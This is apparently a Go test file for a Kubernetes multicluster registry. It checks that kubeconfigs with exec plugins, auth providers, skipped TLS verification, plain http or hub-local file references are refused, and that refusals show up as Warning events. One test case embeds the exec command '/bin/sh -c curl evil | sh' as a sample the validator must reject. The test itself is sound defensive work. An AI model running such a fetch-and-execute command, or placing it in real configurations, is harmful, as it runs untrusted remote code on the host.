package registry

import (
	"context"
	"strings"
	"testing"
	"time"

	"github.com/go-logr/logr/testr"
	corev1 "k8s.io/api/core/v1"
	eventsv1 "k8s.io/api/events/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/client-go/tools/clientcmd"
	clientcmdapi "k8s.io/client-go/tools/clientcmd/api"
	"sigs.k8s.io/controller-runtime/pkg/cache"
	"sigs.k8s.io/controller-runtime/pkg/client"
	"sigs.k8s.io/controller-runtime/pkg/cluster"
	"sigs.k8s.io/controller-runtime/pkg/manager"
	metricsserver "sigs.k8s.io/controller-runtime/pkg/metrics/server"
	mcmanager "sigs.k8s.io/multicluster-runtime/pkg/manager"
	"sigs.k8s.io/multicluster-runtime/pkg/multicluster"
	"sigs.k8s.io/multicluster-runtime/providers/kubeconfig"

	"github.com/etcdfed/etcdfed/dev/testenv"
)

// kubeconfigWith is a self-contained kubeconfig (server, CA and client
// certificate inline) changed by edit.
func kubeconfigWith(t *testing.T, edit func(c *clientcmdapi.Cluster, u *clientcmdapi.AuthInfo)) []byte {
	t.Helper()
	cfg := clientcmdapi.NewConfig()
	cfg.Clusters["m"] = &clientcmdapi.Cluster{Server: "https://127.0.0.1:6443", CertificateAuthorityData: []byte("ca")}
	cfg.AuthInfos["m"] = &clientcmdapi.AuthInfo{ClientCertificateData: []byte("cert"), ClientKeyData: []byte("key")}
	cfg.Contexts["m"] = &clientcmdapi.Context{Cluster: "m", AuthInfo: "m"}
	cfg.CurrentContext = "m"
	edit(cfg.Clusters["m"], cfg.AuthInfos["m"])
	out, err := clientcmd.Write(*cfg)
	if err != nil {
		t.Fatal(err)
	}
	return out
}

func TestCheckKubeconfig(t *testing.T) {
	for _, tc := range []struct {
		name string
		edit func(c *clientcmdapi.Cluster, u *clientcmdapi.AuthInfo)
		bad  []string
	}{
		{"self-contained", func(*clientcmdapi.Cluster, *clientcmdapi.AuthInfo) {}, nil},
		{"a token inline", func(_ *clientcmdapi.Cluster, u *clientcmdapi.AuthInfo) {
			u.ClientCertificateData, u.ClientKeyData, u.Token = nil, nil, "t"
		}, nil},
		{"exec plugin", func(_ *clientcmdapi.Cluster, u *clientcmdapi.AuthInfo) {
			u.Exec = &clientcmdapi.ExecConfig{Command: "/bin/sh", Args: []string{"-c", "curl evil | sh"}, APIVersion: "client.authentication.k8s.io/v1"}
		}, []string{`runs the exec plugin "/bin/sh"`}},
		{"auth provider", func(_ *clientcmdapi.Cluster, u *clientcmdapi.AuthInfo) {
			u.AuthProvider = &clientcmdapi.AuthProviderConfig{Name: "oidc"}
		}, []string{`auth-provider plugin "oidc"`}},
		{"insecure", func(c *clientcmdapi.Cluster, _ *clientcmdapi.AuthInfo) {
			c.InsecureSkipTLSVerify, c.CertificateAuthorityData = true, nil
		}, []string{"insecure-skip-tls-verify"}},
		{"plain http", func(c *clientcmdapi.Cluster, _ *clientcmdapi.AuthInfo) { c.Server = "http://10.0.0.1:8080" }, []string{"is not https"}},
		{"files of the hub", func(c *clientcmdapi.Cluster, u *clientcmdapi.AuthInfo) {
			c.CertificateAuthority, u.ClientCertificate, u.ClientKey, u.TokenFile = "/etc/ca.crt", "/etc/c.crt", "/etc/c.key", "/var/run/secrets/token"
		}, []string{"certificate-authority from the file /etc/ca.crt", "client-certificate from the file", "client-key from the file", "tokenFile from the file"}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			err := CheckKubeconfig(kubeconfigWith(t, tc.edit))
			if len(tc.bad) == 0 {
				if err != nil {
					t.Fatal(err)
				}
				return
			}
			if err == nil {
				t.Fatal("accepted")
			}
			for _, b := range append(tc.bad, "--allow-unsafe-kubeconfigs") {
				if !strings.Contains(err.Error(), b) {
					t.Errorf("%v lacks %q", err, b)
				}
			}
		})
	}
	if err := CheckKubeconfig([]byte("not: [yaml")); err == nil {
		t.Error("a kubeconfig that does not parse accepted")
	}
}

// Kubeconfig Secrets on a real hub apiserver: a good one is engaged; one
// with an exec plugin, and one that skips TLS verification, are not: the
// provider reports the reason in the cluster's state (which every
// EtcdCluster's Degraded condition quotes for a cluster it uses) and
// records a Warning event on the Secret.
func TestUnsafeKubeconfigSecretsRefused(t *testing.T) {
	cls := testenv.StartT(t, "hub", "m")
	hub, member := cls[0], cls[1]
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	hubNS := testenv.NamespaceT(t, hub, "hub")
	ringNS := testenv.NamespaceT(t, member, "ring")
	good, err := member.Kubeconfig()
	if err != nil {
		t.Fatal(err)
	}
	withExec, withInsecure := editKubeconfig(t, good, func(_ *clientcmdapi.Cluster, u *clientcmdapi.AuthInfo) {
		u.Exec = &clientcmdapi.ExecConfig{Command: "/bin/true", APIVersion: "client.authentication.k8s.io/v1"}
	}), editKubeconfig(t, good, func(c *clientcmdapi.Cluster, _ *clientcmdapi.AuthInfo) {
		c.InsecureSkipTLSVerify, c.CertificateAuthorityData = true, nil
	})
	for name, kc := range map[string][]byte{"good": good, "exec": withExec, "insecure": withInsecure} {
		sec := &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Namespace: hubNS, Name: name, Labels: map[string]string{kubeconfig.DefaultKubeconfigSecretLabel: "true"}},
			Data: map[string][]byte{kubeconfig.DefaultKubeconfigSecretKey: kc}}
		if err := hub.Client.Create(ctx, sec); err != nil {
			t.Fatal(err)
		}
	}
	p := &Provider{
		Source: Secrets{Client: hub.Client, Namespace: hubNS},
		ClusterOptions: []cluster.Option{func(o *cluster.Options) {
			o.Scheme = testenv.Scheme()
			o.Cache = cache.Options{DefaultNamespaces: map[string]cache.Config{ringNS: {}}}
		}},
		PreflightTimeout: 2 * time.Second, EngageTimeout: 10 * time.Second, RetryMax: time.Second,
		Log: testr.New(t),
	}
	mgr, err := mcmanager.New(hub.Config, p, manager.Options{Scheme: testenv.Scheme(), Metrics: metricsserver.Options{BindAddress: "0"}})
	if err != nil {
		t.Fatal(err)
	}
	p.Recorder = mgr.GetLocalManager().GetEventRecorder("registry-test")
	go func() {
		if err := mgr.Start(ctx); err != nil {
			t.Errorf("manager: %v", err)
		}
	}()
	want := map[string]string{"exec": `runs the exec plugin "/bin/true"`, "insecure": "insecure-skip-tls-verify"}
	deadline := time.Now().Add(time.Minute)
	for {
		list, _ := p.List(ctx)
		done := len(list) == 3
		for _, mc := range list {
			switch w, bad := want[mc.Name]; {
			case mc.State == nil:
				done = false
			case !bad && !mc.State.Engaged:
				done = false
			case bad && (mc.State.Engaged || !strings.Contains(mc.State.Problem, "kubeconfig refused") || !strings.Contains(mc.State.Problem, w)):
				if mc.State.Engaged {
					t.Fatalf("%s engaged", mc.Name)
				}
				done = false
			}
		}
		if done {
			break
		}
		if time.Now().After(deadline) {
			t.Fatalf("states not as expected within a minute: %+v", list)
		}
		time.Sleep(100 * time.Millisecond)
	}
	for name := range want {
		if _, err := p.Get(ctx, multicluster.ClusterName(name)); err == nil {
			t.Errorf("Get(%s) returned a cluster", name)
		}
	}
	for {
		var evs eventsv1.EventList
		if err := hub.Client.List(ctx, &evs, client.InNamespace(hubNS)); err != nil {
			t.Fatal(err)
		}
		got := map[string]bool{}
		for _, e := range evs.Items {
			if e.Reason == "KubeconfigRefused" && e.Type == corev1.EventTypeWarning && e.Regarding.Kind == "Secret" && strings.Contains(e.Note, want[e.Regarding.Name]) {
				got[e.Regarding.Name] = true
			}
		}
		if got["exec"] && got["insecure"] && !got["good"] {
			break
		}
		if time.Now().After(deadline) {
			t.Fatalf("KubeconfigRefused events on %v, want exec and insecure", got)
		}
		time.Sleep(100 * time.Millisecond)
	}
}

func editKubeconfig(t *testing.T, data []byte, edit func(c *clientcmdapi.Cluster, u *clientcmdapi.AuthInfo)) []byte {
	t.Helper()
	cfg, err := clientcmd.Load(data)
	if err != nil {
		t.Fatal(err)
	}
	k := cfg.Contexts[cfg.CurrentContext]
	edit(cfg.Clusters[k.Cluster], cfg.AuthInfos[k.AuthInfo])
	out, err := clientcmd.Write(*cfg)
	if err != nil {
		t.Fatal(err)
	}
	return out
}
